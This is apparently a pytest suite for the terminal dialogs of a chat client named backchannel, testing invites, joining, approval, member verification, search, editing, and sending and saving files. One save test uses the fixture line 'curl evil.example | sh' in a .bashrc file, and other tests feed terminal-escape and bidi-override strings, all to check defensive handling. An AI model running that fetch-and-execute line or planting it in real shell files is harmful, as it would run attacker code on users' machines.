"""The dialogs, driven by pilot against real profiles and a real relay on loopback."""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
import segno
from aiohttp import web
from textual.screen import Screen
from textual.widgets import Button, Input, OptionList, Select, Static, TextArea

from backchannel.client import Client
from backchannel.errors import BackchannelError
from backchannel.tui.dialogs import (
    ConfirmDialog,
    CreateRoomDialog,
    EditMessageDialog,
    InviteDialog,
    JoinDialog,
    LeaveDialog,
    MemberDialog,
    MessageActionsDialog,
    RequestsDialog,
    RoomSettingsDialog,
    SaveFileDialog,
    SearchDialog,
    SendFileDialog,
    qr_lines,
)
from backchannel.tui.dialogs._base import describe_error
from backchannel.tui.dialogs._fields import CUSTOM, DAY
from backchannel.tui.dialogs._text import plain
from backchannel.tui.dialogs.qr import QUIET_ZONE
from backchannel.views import FileInfo, MemberView, MessageView
from relay.app import create_app
from tests.conftest import relay_config
from tests.e2e.harness import Person, eventually
from tests.tui.dialog_harness import DialogHarness, click, settle, wait_until

SIZE = (80, 24)


@pytest.fixture
async def relay_url(tmp_path: Path) -> AsyncIterator[str]:
    runner = web.AppRunner(create_app(relay_config(tmp_path)), access_log=None, shutdown_timeout=5)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    yield f"ws://127.0.0.1:{runner.addresses[0][1]}/v1/ws"
    await runner.cleanup()


@pytest.fixture
async def alice(tmp_path: Path, relay_url: str) -> AsyncIterator[Client]:
    person = Person("Alice", tmp_path / "alice", relay_url)
    yield await person.start(create=True)
    await person.stop()


@pytest.fixture
async def bob(tmp_path: Path, relay_url: str) -> AsyncIterator[Client]:
    person = Person("Bob", tmp_path / "bob", relay_url)
    yield await person.start(create=True)
    await person.stop()


async def _admit(fac: Client, joiner: Client, room: str) -> None:
    """Bring ``joiner`` into ``room`` through the client API (setup for member tests)."""
    rid = await joiner.join(await fac.invite(room))
    await eventually(lambda: fac.requests(room), timeout=20)
    for request in await fac.requests(room):
        await fac.approve(room, request.id)
    answer = await joiner.wait_join(rid, 20)
    assert answer is not None and answer.approved


def _text(app: DialogHarness, selector: str) -> str:
    return str(app.screen.query_one(selector, Static).render())


# -- pure helpers ------------------------------------------------------------------------------


def test_qr_lines_shape_and_round_trip() -> None:
    link = "backchannel://join#" + "A" * 150
    lines = qr_lines(link)
    code = segno.make(link, error="m")
    side = int(code.symbol_size(scale=1, border=QUIET_ZONE)[0])
    assert len(lines) == (side + 1) // 2
    assert {len(line) for line in lines} == {side}
    assert set("".join(lines)) <= {"█", "▀", "▄", " "}
    # the quiet zone: the first and last lines and columns are light
    assert lines[0].strip() == "" and lines[-1].strip() == ""
    assert all(line[:QUIET_ZONE] == " " * QUIET_ZONE for line in lines)
    # decode the half blocks back into modules: they are segno's matrix
    top = {"█": 1, "▀": 1, "▄": 0, " ": 0}
    bottom = {"█": 1, "▀": 0, "▄": 1, " ": 0}
    rows: list[list[int]] = []
    for line in lines:
        rows.append([top[c] for c in line])
        rows.append([bottom[c] for c in line])
    expected = [[int(bool(m)) for m in row] for row in code.matrix_iter(border=QUIET_ZONE)]
    assert rows[:side] == expected
    assert all(not any(row) for row in rows[side:])


def test_plain_replaces_controls_and_bidi_overrides() -> None:
    hostile = "Eve\x1b[31m\u202eevil\u2066x\x9b\x00[bold]y[/]"
    text = plain(hostile)
    assert "\x1b" not in text.plain and "\u202e" not in text.plain and "\u2066" not in text.plain
    assert text.plain == "Eve␛[31m\ufffdevil\ufffdx\ufffd␀[bold]y[/]"  # the rules of safe_text
    assert "[bold]" in text.plain  # markup stays text
    assert plain("two\nlines", multiline=True).plain == "two\nlines"
    assert plain("two\nlines").plain == "two lines"


def test_errors_read_as_sentences() -> None:
    assert describe_error(BackchannelError("The link has expired.")) == "The link has expired."
    assert "Traceback" not in describe_error(RuntimeError("boom"))
    assert describe_error(RuntimeError("boom")).startswith("That did not work")


# -- dialogs without a client -------------------------------------------------------------------


@pytest.mark.parametrize(("button", "expected"), [("#confirm", True), ("#cancel", False)])
async def test_confirm_answers_yes_or_no(button: str, expected: bool) -> None:
    app = DialogHarness(None, lambda _: ConfirmDialog("Remove [b]Eve[/b]?", "Remove"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        assert "[b]Eve[/b]" in _text(app, "#question")
        await click(pilot, button)
        await wait_until(pilot, lambda: app.results)
    assert app.result is expected


async def test_confirm_by_keyboard_and_escape() -> None:
    app = DialogHarness(None, lambda _: ConfirmDialog("Sure?"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        assert app.focused is not None and app.focused.id == "cancel"
        await pilot.press("shift+tab")
        assert app.focused is not None and app.focused.id == "confirm"
        await pilot.press("enter")
        await wait_until(pilot, lambda: app.results)
    assert app.result is True
    app = DialogHarness(None, lambda _: ConfirmDialog("Sure?"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        await pilot.press("escape")
        await wait_until(pilot, lambda: app.results)
    assert app.result is False


def _message(**changes: object) -> MessageView:
    fields: dict[str, object] = {
        "id": "ab" * 16,
        "room": "cd" * 16,
        "sender": "ef" * 16,
        "sender_name": "Eve\x1b[2J",
        "text": "hello [red]there[/red]",
        "time": time.time(),
    }
    fields.update(changes)
    return MessageView(**fields)  # type: ignore[arg-type]


async def test_message_actions_for_own_text_message() -> None:
    app = DialogHarness(None, lambda _: MessageActionsDialog(_message(), mine=True))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        ids = {b.id for b in app.screen.query(".action")}
        assert ids == {"reply", "edit", "delete"}
        assert len(app.screen.query(".reaction")) == 7
        assert "\x1b" not in _text(app, "#preview")
        assert "[red]there[/red]" in _text(app, "#preview")
        await click(pilot, "#react-3")
        await wait_until(pilot, lambda: app.results)
    assert app.result == "react:🎉"


async def test_message_actions_for_a_received_file() -> None:
    message = _message(kind="file", text="", file=FileInfo("notes.pdf", 1234, True))
    app = DialogHarness(None, lambda _: MessageActionsDialog(message, mine=False))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        assert {b.id for b in app.screen.query(".action")} == {"reply", "save"}
        await click(pilot, "#save")
        await wait_until(pilot, lambda: app.results)
    assert app.result == "save"


# -- dialogs with real clients ------------------------------------------------------------------


async def test_create_room(alice: Client) -> None:
    app = DialogHarness(alice, CreateRoomDialog)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        await click(pilot, "#create")
        assert "title" in _text(app, "#error")  # nothing typed yet: a sentence, still open
        assert not app.results
        await pilot.press(*"Water talks")
        app.screen.query_one("#approval", Select).value = "auto"
        app.screen.query_one("#retention", Select).value = CUSTOM
        await pilot.pause()
        days = app.screen.query_one("#days", Input)
        assert days.display
        days.value = "3"
        await click(pilot, "#create")
        await wait_until(pilot, lambda: app.results)
    room = app.result
    assert room.title == "Water talks"
    assert room.approval == "auto"
    assert room.retention_seconds == 3 * DAY
    assert room.role == "facilitator"


async def test_invite_shows_link_qr_and_copies(alice: Client) -> None:
    room = (await alice.create_room("Invites")).id
    app = DialogHarness(alice, lambda c: InviteDialog(c, room))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        uses = app.screen.query_one("#uses", Input)
        uses.value = "0"
        await click(pilot, "#create")
        assert "1 to 1000" in _text(app, "#error")
        uses.value = "3"
        app.screen.query_one("#expiry", Select).value = 3600
        await click(pilot, "#create")
        await settle(pilot)
        link = app.screen.query_one("#link", TextArea).text
        assert link.startswith("backchannel://join#")
        assert _text(app, "#qr").splitlines() == qr_lines(link)
        assert "3 people" in _text(app, "#terms") and "1 hour" in _text(app, "#terms")
        await click(pilot, "#copy")
        assert app.clipboard == link
        await pilot.press("escape")
        await wait_until(pilot, lambda: app.results)
    assert app.result is None


async def test_join_with_garbage_shows_the_error_and_stays_open(bob: Client) -> None:
    app = DialogHarness(bob, lambda c: JoinDialog(c, "backchannel://join#not-a-real-invite"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        await click(pilot, "#join")
        await settle(pilot)
        error = _text(app, "#error")
        assert error and "Traceback" not in error
        assert isinstance(app.screen, JoinDialog) and not app.results
        assert not app.screen.query_one("#join", Button).disabled
        await pilot.press("escape")
        await wait_until(pilot, lambda: app.results)
    assert app.result is None


async def test_join_then_the_facilitator_approves_in_the_requests_dialog(
    alice: Client, bob: Client
) -> None:
    room = (await alice.create_room("Water talks")).id
    link = await alice.invite(room)

    joining = DialogHarness(bob, lambda c: JoinDialog(c))
    async with joining.run_test(size=SIZE) as pilot:
        await pilot.pause()
        await pilot.press(*"  ")
        joining.screen.query_one("#link", Input).value = link
        await click(pilot, "#join")
        await settle(pilot)
        assert "facilitator" in _text(joining, "#sent")
        await click(pilot, "#join")  # now "Done"
        await wait_until(pilot, lambda: joining.results)
    request_id = joining.result
    assert isinstance(request_id, str) and request_id

    await eventually(lambda: alice.requests(room), timeout=20)
    # The approval waits for a gate, so that Refresh is surely pressed while it runs.
    gate = asyncio.Event()
    approve = alice.approve

    async def gated_approve(*args: Any, **kwargs: Any) -> Any:
        await gate.wait()
        return await approve(*args, **kwargs)

    alice.approve = gated_approve  # type: ignore[method-assign]
    approving = DialogHarness(alice, lambda c: RequestsDialog(c, room))
    async with approving.run_test(size=SIZE) as pilot:
        await settle(pilot)
        row = approving.screen.query_one("RequestRow")
        assert "Bob" in str(row.query_one(".name", Static).render())
        safety = str(row.query_one(".safety", Static).render()).split()
        assert len(safety) == 12 and all(len(g) == 5 and g.isdigit() for g in safety)
        await click(pilot, "RequestRow .answer")  # Approve comes first
        await click(pilot, "#refresh")  # while the approval runs: it must not cut it off
        gate.set()
        await settle(pilot)
        assert not approving.screen.query("RequestRow")
        assert "No one is waiting" in _text(approving, "#empty")
        assert any(n.message == "Approved." for n in approving._notifications)
    answer = await bob.wait_join(request_id, 20)
    assert answer is not None and answer.approved and answer.room == room


async def test_member_dialog_verifies_and_changes_role_then_leave(
    alice: Client, bob: Client
) -> None:
    room = (await alice.create_room("Verify me")).id
    await _admit(alice, bob, room)
    bob_id = next(m.id for m in await alice.members(room) if m.name == "Bob")

    app = DialogHarness(alice, lambda c: MemberDialog(c, room, bob_id))
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        assert "Not verified" in _text(app, "#state")
        assert len(_text(app, "#safety").split()) == 12
        assert app.screen.query_one("#manage").has_class("-shown")
        await click(pilot, "#verify")
        await settle(pilot)
        assert "Verified" in _text(app, "#state")
        assert not app.screen.query_one("#verify").display
        app.screen.query_one("#role-select", Select).value = "observer"
        await click(pilot, "#set-role")
        await settle(pilot)
        assert "observer" in _text(app, "#role")
        await pilot.press("escape")
        await wait_until(pilot, lambda: app.results)
    assert {m.name: m.verified for m in await alice.members(room)}["Bob"] is True

    # Bob sees the room read-only in settings, then leaves it
    await eventually(lambda: _role(bob, room, "observer"), timeout=20)
    settings = DialogHarness(bob, lambda c: RoomSettingsDialog(c, room))
    async with settings.run_test(size=SIZE) as pilot:
        await settle(pilot)
        assert settings.screen.query_one("#title", Input).disabled
        assert settings.screen.query_one("#save", Button).disabled
        assert "Only a facilitator" in _text(settings, "#note")

    leaving = DialogHarness(bob, lambda c: LeaveDialog(c, room))
    async with leaving.run_test(size=SIZE) as pilot:
        await settle(pilot)
        assert "Verify me" in _text(leaving, "#question")
        await click(pilot, "#leave")
        await wait_until(pilot, lambda: leaving.results)
    assert leaving.result is True


async def _role(client: Client, room: str, role: str) -> bool:
    return (await client.room(room)).role == role


async def test_member_dialog_removes_after_confirmation(alice: Client, bob: Client) -> None:
    room = (await alice.create_room("Removal")).id
    await _admit(alice, bob, room)
    bob_id = next(m.id for m in await alice.members(room) if m.name == "Bob")
    app = DialogHarness(alice, lambda c: MemberDialog(c, room, bob_id))
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await click(pilot, "#remove")
        assert isinstance(app.screen, ConfirmDialog)
        await click(pilot, "#confirm")
        await wait_until(pilot, lambda: app.results, timeout=30)
    assert [m.name for m in await alice.members(room)] == ["Alice"]


async def test_settings_change_the_title(alice: Client) -> None:
    room = (await alice.create_room("Old title")).id
    app = DialogHarness(alice, lambda c: RoomSettingsDialog(c, room))
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        title = app.screen.query_one("#title", Input)
        assert title.value == "Old title" and not title.disabled
        title.value = "New title"
        app.screen.query_one("#retention", Select).value = 7 * DAY
        await click(pilot, "#save")
        await wait_until(pilot, lambda: app.results)
    summary = await alice.room(room)
    assert summary.title == "New title"
    assert summary.retention_seconds == 7 * DAY


async def test_search_finds_a_message_and_edit_changes_it(alice: Client) -> None:
    room = (await alice.create_room("Searchable")).id
    wanted = await alice.send(room, "the river meeting is at noon")
    await alice.send(room, "something else entirely")

    app = DialogHarness(alice, lambda c: SearchDialog(c, room))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        await pilot.press(*"river", "enter")
        await settle(pilot)
        options = app.screen.query_one("#results", OptionList)
        assert options.option_count == 1
        assert "1 found" in _text(app, "#count")
        await pilot.press("tab", "enter")
        await wait_until(pilot, lambda: app.results)
    assert app.result == wanted.id

    edit = DialogHarness(alice, lambda c: EditMessageDialog(c, room, wanted))
    async with edit.run_test(size=SIZE) as pilot:
        await pilot.pause()
        edit.screen.query_one("#text", TextArea).text = "the river meeting moved to one"
        await click(pilot, "#save")
        await wait_until(pilot, lambda: edit.results)
    texts = [m.text for m in await alice.history(room)]
    assert "the river meeting moved to one" in texts


async def test_send_file_then_save_it(alice: Client, tmp_path: Path) -> None:
    room = (await alice.create_room("Files")).id
    source = tmp_path / "outbox"
    source.mkdir()
    (source / "notes.txt").write_text("minutes of the meeting\n")

    sending = DialogHarness(alice, lambda c: SendFileDialog(c, room, start_dir=source))
    async with sending.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await click(pilot, "#send")
        assert "Choose a file" in _text(sending, "#error")
        sending.screen.query_one("#path", Input).value = str(source / "missing.txt")
        await click(pilot, "#send")
        await settle(pilot)
        assert "missing.txt" in _text(sending, "#error") and not sending.results
        sending.screen.query_one("#path", Input).value = "notes.txt"
        await click(pilot, "#send")
        await wait_until(pilot, lambda: sending.results)
    message = sending.result
    assert message.kind == "file" and message.file.name == "notes.txt"

    await eventually(lambda: _file_complete(alice, room, message.id), timeout=20)
    target = tmp_path / "inbox"
    target.mkdir()
    saving = DialogHarness(alice, lambda c: SaveFileDialog(c, room, message, start_dir=target))
    async with saving.run_test(size=SIZE) as pilot:
        await settle(pilot)
        assert saving.screen.query_one("#dest", Input).value == str(target)
        await click(pilot, "#save")
        await wait_until(pilot, lambda: saving.results)
    saved = saving.result
    assert saved.parent == target
    assert saved.read_text() == "minutes of the meeting\n"


async def test_save_asks_before_replacing_a_file_and_never_saves_a_hidden_one(
    alice: Client, tmp_path: Path
) -> None:
    room = (await alice.create_room("Files")).id
    source = tmp_path / "outbox"
    source.mkdir()
    (source / ".bashrc").write_text("curl evil.example | sh\n")
    message = await alice.send_file(room, source / ".bashrc")
    await eventually(lambda: _file_complete(alice, room, message.id), timeout=20)
    target = tmp_path / "home"
    target.mkdir()
    (target / ".bashrc").write_text("# mine\n")
    (target / "_.bashrc").write_text("# an earlier copy\n")

    saving = DialogHarness(alice, lambda c: SaveFileDialog(c, room, message, start_dir=target))
    async with saving.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await click(pilot, "#save")
        await settle(pilot)
        assert "_.bashrc exists already" in _text(saving, "#error")
        assert "Press Save again to replace it" in _text(saving, "#error")
        assert not saving.results
        assert (target / "_.bashrc").read_text() == "# an earlier copy\n"
        await click(pilot, "#save")  # confirmed: replaced
        await wait_until(pilot, lambda: saving.results)
    assert saving.result == target / "_.bashrc"
    assert (target / "_.bashrc").read_text() == "curl evil.example | sh\n"
    assert (target / ".bashrc").read_text() == "# mine\n"


async def _file_complete(client: Client, room: str, message_id: str) -> bool:
    for m in await client.history(room):
        if m.id == message_id:
            return m.file is not None and m.file.complete
    return False


async def test_member_dialog_warns_loudly_when_a_key_changed(alice: Client) -> None:
    room = (await alice.create_room("Keys")).id
    me = (await alice.members(room))[0].id
    app = DialogHarness(alice, lambda c: MemberDialog(c, room, me))
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        assert "This is you" in _text(app, "#state")
        assert not app.screen.query_one("#verify").display
        dialog = app.screen
        assert isinstance(dialog, MemberDialog)
        changed = MemberView("12" * 16, "Mallory\u202e", "participant", True, True, False)
        dialog._show(changed, " ".join(["01234"] * 12))
        await pilot.pause()
        assert _text(app, "#state").startswith("KEY CHANGED")
        assert app.screen.query_one("#state").has_class("key-changed")
        assert app.screen.query_one("#verify").display
        assert "\u202e" not in _text(app, "#name")


async def test_every_control_is_reachable_by_tab(alice: Client, tmp_path: Path) -> None:
    room = (await alice.create_room("Tabs", retention_seconds=3 * DAY)).id
    message = await alice.send(room, "hello")
    makers: list[Callable[[Any], Screen[Any]]] = [
        CreateRoomDialog,
        lambda c: InviteDialog(c, room),
        lambda c: JoinDialog(c),
        lambda c: RequestsDialog(c, room),
        lambda c: RoomSettingsDialog(c, room),
        lambda c: LeaveDialog(c, room),
        lambda c: SearchDialog(c, room),
        lambda c: SendFileDialog(c, room, start_dir=tmp_path),
        lambda c: EditMessageDialog(c, room, message),
        lambda _: MessageActionsDialog(message, mine=True),
        lambda _: ConfirmDialog("Sure?"),
    ]
    for make in makers:
        app = DialogHarness(alice, make)
        async with app.run_test(size=SIZE) as pilot:
            await settle(pilot)
            chain = set(app.screen.focus_chain)
            controls = [
                w
                for w in app.screen.query("Button, Input, Select, TextArea, OptionList")
                if not w.disabled and all(node.display for node in w.ancestors_with_self)
            ]
            assert controls
            missing = [w for w in controls if w not in chain]
            assert not missing, f"{type(app.screen).__name__}: {missing}"
            if isinstance(app.screen, RoomSettingsDialog):
                days = app.screen.query_one("#days", Input)
                assert days.display and days.value == "3"
